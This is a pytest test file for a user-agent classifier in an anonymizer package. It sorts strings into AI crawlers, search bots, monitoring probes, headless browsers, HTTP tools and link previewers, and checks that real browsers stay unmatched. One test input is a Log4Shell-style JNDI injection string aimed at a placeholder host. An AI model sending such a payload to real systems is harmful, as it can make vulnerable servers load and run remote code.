from importlib.resources import files

import pytest
from hypothesis import given
from hypothesis import strategies as st

from anonymizer.machines import OTHER_FAMILY, Machine, MachineKind, Machines

K = MachineKind
WIN = "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"
LINUX = "Mozilla/5.0 (X11; Linux x86_64)"
KIT = "AppleWebKit/537.36 (KHTML, like Gecko)"
CHROME = f"{LINUX} {KIT} Chrome/120.0.0.0 Safari/537.36"
NAMED = "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; {}; +https://x.example/bot)"
DROID = "Mozilla/5.0 (Linux; Android 7.0; {}) AppleWebKit/537.36 Chrome/78.0.1 Mobile Safari/537.36"

ASSISTANTS = [
    ("GPTBot/1.2", "GPTBot"),
    ("ChatGPT-User/1.0", "ChatGPT-User"),
    ("OAI-SearchBot/1.0", "OAI-SearchBot"),
    ("ClaudeBot/1.0", "ClaudeBot"),
    ("Claude-User/1.0", "Claude-User"),
    ("Claude-SearchBot/1.0", "Claude-SearchBot"),
    ("anthropic-ai", "anthropic-ai"),
    ("PerplexityBot/1.0", "PerplexityBot"),
    ("Perplexity-User/1.0", "Perplexity-User"),
    ("Google-CloudVertexBot", "Google-CloudVertexBot"),
    ("Google-NotebookLM", "Google-NotebookLM"),
    ("GoogleOther", "GoogleOther"),
    ("Applebot/0.1", "Applebot"),
    ("Bytespider", "Bytespider"),
    ("CCBot/2.0", "CCBot"),
    ("Amazonbot/0.1", "Amazonbot"),
    ("meta-externalagent/1.1", "meta-externalagent"),
    ("FacebookBot/1.0", "FacebookBot"),
    ("cohere-ai", "cohere-ai"),
    ("DuckAssistBot/1.2", "DuckAssistBot"),
    ("MistralAI-User/1.0", "MistralAI-User"),
    ("Diffbot/0.1", "Diffbot"),
    ("Timpibot/0.8", "Timpibot"),
    ("YouBot", "YouBot"),
    ("PetalBot", "PetalBot"),
    ("DeepSeekBot/1.0", "DeepSeekBot"),
    ("xAI-Bot/1.0", "xAI-Bot"),
    ("KimiBot/1.0", "Kimi"),
    ("AI2Bot", "AI2Bot"),
]

LISTED = [
    (
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        K.CRAWLER,
        "Googlebot",
    ),
    (DROID.format("Nexus 5X") + " (compatible; Googlebot/2.1)", K.CRAWLER, "Googlebot"),
    ("Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", K.CRAWLER, "YandexBot"),
    ("Mozilla/5.0 (compatible; Yahoo! Slurp)", K.CRAWLER, "Yahoo Slurp"),
    ("Sogou web spider/4.0(+http://www.sogou.com/docs/help/webmasters.htm#07)", K.CRAWLER, "Sogou"),
    ("Feedbin feed-id:1 - 3 subscribers", K.CRAWLER, "Feedbin"),
    ("NewsBlur Feed Fetcher - 1 subscriber", K.CRAWLER, "NewsBlur"),
    (
        "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
        K.MONITORING,
        "UptimeRobot",
    ),
    (f"{LINUX} (compatible; StatusCake)", K.MONITORING, "StatusCake"),
    (
        f"{CHROME} PingdomPageSpeed/1.0 (pingbot/2.0; +http://www.pingdom.com/)",
        K.MONITORING,
        "Pingdom",
    ),
    ("kube-probe/1.29", K.MONITORING, "kube-probe"),
    ("ELB-HealthChecker/2.0", K.MONITORING, "ELB-HealthChecker"),
    ("GoogleHC/1.0", K.MONITORING, "GoogleHC"),
    (f"{LINUX} {KIT} HeadlessChrome/120.0.0.0 Safari/537.36", K.HEADLESS, "HeadlessChrome"),
    (f"{CHROME} Playwright/1.40.0", K.HEADLESS, "Playwright"),
    (f"{CHROME} Puppeteer", K.HEADLESS, "Puppeteer"),
    (
        "Mozilla/5.0 (Unknown; Linux) AppleWebKit/538.1 PhantomJS/2.1.1 Safari/538.1",
        K.HEADLESS,
        "PhantomJS",
    ),
    ("curl/8.5.0", K.TOOL, "curl"),
    ("Wget/1.21.3", K.TOOL, "Wget"),
    ("python-requests/2.31.0", K.TOOL, "python-requests"),
    ("Python/3.11 aiohttp/3.9.1", K.TOOL, "Python"),
    ("Go-http-client/1.1", K.TOOL, "Go-http-client"),
    ("okhttp/4.12.0", K.TOOL, "okhttp"),
    ("Java/1.8.0_361", K.TOOL, "Java"),
    ("Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", K.PREVIEW, "Slackbot"),
    ("WhatsApp/2.23.20.0", K.PREVIEW, "WhatsApp"),
    ("TelegramBot (like TwitterBot)", K.PREVIEW, "TelegramBot"),
    (
        "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
        K.PREVIEW,
        "facebookexternalhit",
    ),
    ("facebookexternalhit/1.1;line-poker/1.0", K.PREVIEW, "LINE"),
    ("Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)", K.PREVIEW, "Discordbot"),
    (
        "Mozilla/5.0 (Windows NT 5.1; rv:11.0) Gecko Firefox/11.0 (via ggpht.com GoogleImageProxy)",
        K.MAIL_PROXY,
        "GoogleImageProxy",
    ),
    (
        "YahooMailProxy; https://help.yahoo.com/kb/yahoo-mail-proxy-SLN28749.html",
        K.MAIL_PROXY,
        "YahooMailProxy",
    ),
    ("Mozilla/5.0", K.MAIL_PREFETCH, "Apple Mail"),
    (
        f"{WIN} {KIT} Chrome/42.0.2311.135 Safari/537.36 Edge/12.246 Mozilla/5.0",
        K.MAIL_PREFETCH,
        "Gmail",
    ),
]

# Whoever is in no list, by what only machines say.
UNLISTED = [
    ("Mozilla/5.0 (compatible; QuokkaBot/1.0; +http://quokka.example)", K.CRAWLER),
    ("quokka-crawler 0.1", K.CRAWLER),
    (f"{CHROME} (+https://quokka.example/about)", K.CRAWLER),
    ("Mozilla/5.0 (compatible; Quokka/1.0)", K.CRAWLER),
    ("Quokka/2.1 (https://quokka.example)", K.CRAWLER),
    ("Mozilla/5.0 (compatible; Quokka/1.0; https://quokka.example) Gecko", K.CRAWLER),
    ("QuokkaFetcher/1.0", K.CRAWLER),
    ("${jndi:ldap://quokka.example/a}", K.CRAWLER),
    (f"{CHROME} QuokkaSynthetics", K.MONITORING),
    ("Quokka Uptime", K.MONITORING),
    ("Quokka Link Preview/1.0", K.PREVIEW),
]

PEOPLE = [
    pytest.param(CHROME, id="Chrome"),
    pytest.param(f"{WIN} {KIT} Chrome/42.0.2311.135 Safari/537.36 Edge/12.246", id="Edge 12"),
    pytest.param("Mozilla/5.0 (Windows NT 6.1; WOW64; rv:31.0) Gecko/20100101", id="bare Gecko"),
    pytest.param(
        "Mozilla/5.0 (Windows NT 6.1; Trident/7.0; Banca Caboto s.p.a.; rv:11.0)", id="bank"
    ),
    pytest.param(DROID.format("CUBOT J9"), id="Cubot"),
    pytest.param(DROID.format("CUBOT"), id="Cubot alone"),
    pytest.param(DROID.format("M bot 54"), id="M bot"),
    pytest.param(DROID.format("VR BOT 552"), id="VR Bot"),
    pytest.param(DROID.format("C Bot Tab 70"), id="C Bot"),
    pytest.param(DROID.format("Spider 8"), id="Spider"),
    pytest.param(DROID.format("GM Discovery II"), id="Discovery"),
    pytest.param(DROID.format("Fever_Plus_J"), id="Fever"),
    pytest.param(DROID.format("Expanse"), id="Expanse"),
    pytest.param(DROID.format("HTC Butterfly Build/JDQ39"), id="Butterfly"),
    pytest.param(DROID.format("ViewSonic A8+ Build/JLS36C"), id="ViewSonic"),
    pytest.param(DROID.format("CPH2557 Build/AP3A.240617.008; wv"), id="build of Android 15"),
    pytest.param(
        f"{DROID.format('Redmi')} SogouMSE,SogouMobileBrowser/5.4.6", id="Sogou's browser"
    ),
    pytest.param(f"{WIN} {KIT} coc_coc_browser/101.0 Chrome/95.0 Safari/537.36", id="Cốc Cốc"),
    pytest.param(f"{DROID.format('Pixel 10; wv')} MetaIAB Facebook", id="Facebook's browser"),
    pytest.param(
        f"{DROID.format('Pixel 10; wv')} Instagram 406.0.0.58.159 Android", id="Instagram"
    ),
    pytest.param(f"{DROID.format('SM-F966N; wv')} Viber/27.4", id="Viber"),
    pytest.param(f"{WIN} {KIT} Code/1.61.2 Chrome/91.0 Electron/13.5.1 Safari/537.36", id="editor"),
    pytest.param(f"{WIN} {KIT} Notion/2.0 Chrome/91.0 Electron/13.5.1 Safari/537.36", id="Notion"),
    pytest.param("Mozilla/5.0 (PlayStation 4 Pro 5.0)", id="console"),
    pytest.param("Mozilla/5.0 (compatible; Konqueror/4.5; Linux) KHTML/4.5.4", id="Konqueror"),
    pytest.param("Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.0; Trident/5.0)", id="IE 9"),
    pytest.param("Lynx/2.8.8pre.4 libwww-FM/2.14 SSL-MM/1.4.1", id="Lynx"),
    pytest.param("Dillo/3.0.5", id="Dillo"),
    pytest.param("w3m/0.5.3", id="w3m"),
    pytest.param(
        "Mozilla/5.0 (Windows NT 10.0; rv:102.0) Gecko/20100101 Thunderbird/102.15.1", id="mail"
    ),
    pytest.param(f"{CHROME} (Ecosia android@62.0.3202.101)", id="at sign"),
]


@pytest.fixture(scope="module")
def table() -> str:
    return (files("anonymizer") / "data" / "machines.tsv").read_text("utf-8")


@pytest.fixture(scope="module")
def machines(table: str) -> Machines:
    return Machines.from_tsv(table)


@pytest.mark.parametrize(("name", "family"), ASSISTANTS)
def test_assistant_is_an_ai_crawler(machines: Machines, name: str, family: str) -> None:
    for raw_agent in (name, NAMED.format(name), f"Mozilla/5.0 (compatible; {name})"):
        assert machines.find(raw_agent) == Machine(K.AI_CRAWLER, family)


@pytest.mark.parametrize(("raw_agent", "kind", "family"), LISTED)
def test_listed_machine_is_named(
    machines: Machines, raw_agent: str, kind: MachineKind, family: str
) -> None:
    assert machines.find(raw_agent) == Machine(kind, family)


@pytest.mark.parametrize(("raw_agent", "kind"), UNLISTED)
def test_machine_in_no_list_has_no_name(
    machines: Machines, raw_agent: str, kind: MachineKind
) -> None:
    assert machines.find(raw_agent) == Machine(kind, OTHER_FAMILY)


@pytest.mark.parametrize("raw_agent", PEOPLE)
def test_person_is_no_machine(machines: Machines, raw_agent: str) -> None:
    assert machines.find(raw_agent) is None


@pytest.mark.parametrize(
    "raw_agent",
    [
        "Mozilla/5.0 ",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
        f"{WIN} {KIT} Chrome/42.0.2311.135 Safari/537.36 Edge/12.246 Mozilla/5.0 x",
    ],
)
def test_only_the_whole_agent_of_a_mail_prefetch_is_one(machines: Machines, raw_agent: str) -> None:
    found = machines.find(raw_agent)
    assert found is None or found.kind is not K.MAIL_PREFETCH


def test_machine_that_uses_a_tool_is_known_by_its_own_name(machines: Machines) -> None:
    assert machines.find("AhrefsBot/7.0 python-requests/2.31.0") == Machine(K.CRAWLER, "Ahrefs")
    headless = f"{LINUX} {KIT} HeadlessChrome/120.0 Safari/537.36 DatadogSynthetics"
    assert machines.find(headless) == Machine(K.MONITORING, "DatadogSynthetics")


@given(
    st.text(max_size=200), st.sampled_from(["", "bot/1.0", "Googlebot/2.1", " +https://a.example"])
)
def test_family_is_always_of_the_list(table: str, machines: Machines, text: str, mark: str) -> None:
    found = machines.find(text + mark)
    assert found is None or f"\t{found.family}\t" in table


def test_first_pattern_that_fits_counts() -> None:
    rows = [(K.CRAWLER, f"n{number}", f"b{{{number}}}") for number in range(3, 0, -1)]
    assert Machines(rows).find("bbb") == Machine(K.CRAWLER, "n3")
    assert Machines(reversed(rows)).find("bbb") == Machine(K.CRAWLER, "n1")


def test_boundary_in_a_pattern_is_that_of_a_word() -> None:
    machines = Machines([(K.CRAWLER, "Fever", r"\bfever\b")])
    assert machines.find("the fever/1.0") is not None
    assert machines.find("feverish") is None
    assert machines.find("hayfever") is None
    # Of an ASCII word, that is.
    assert machines.find("éfever") is not None


@pytest.mark.parametrize(
    ("line", "fault"),
    [
        pytest.param("crawler\tGooglebot", "has not three columns", id="missing column"),
        pytest.param("robot\tGooglebot\tg", "has no such kind or family", id="unknown kind"),
        pytest.param("crawler\t\tg", "has no such kind or family", id="no family"),
        pytest.param("crawler\ta@b\tg", "has no such kind or family", id="odd family"),
    ],
)
def test_line_that_does_not_fit_is_named(line: str, fault: str) -> None:
    with pytest.raises(ValueError, match=f"machines: line 2 {fault}"):
        Machines.from_tsv(f"# kind\n{line}\n")


def test_pattern_that_is_none_is_refused() -> None:
    with pytest.raises(ValueError, match="regex parse error"):
        Machines([(K.CRAWLER, "Bad", "(")])


def test_shipped_list_is_whole_and_tells_its_origin(table: str, machines: Machines) -> None:
    assert len(machines) > 1500
    assert "monperrus/crawler-user-agents (MIT, machines.LICENSE.txt)" in table
    assert (files("anonymizer") / "data" / "machines.LICENSE.txt").is_file()
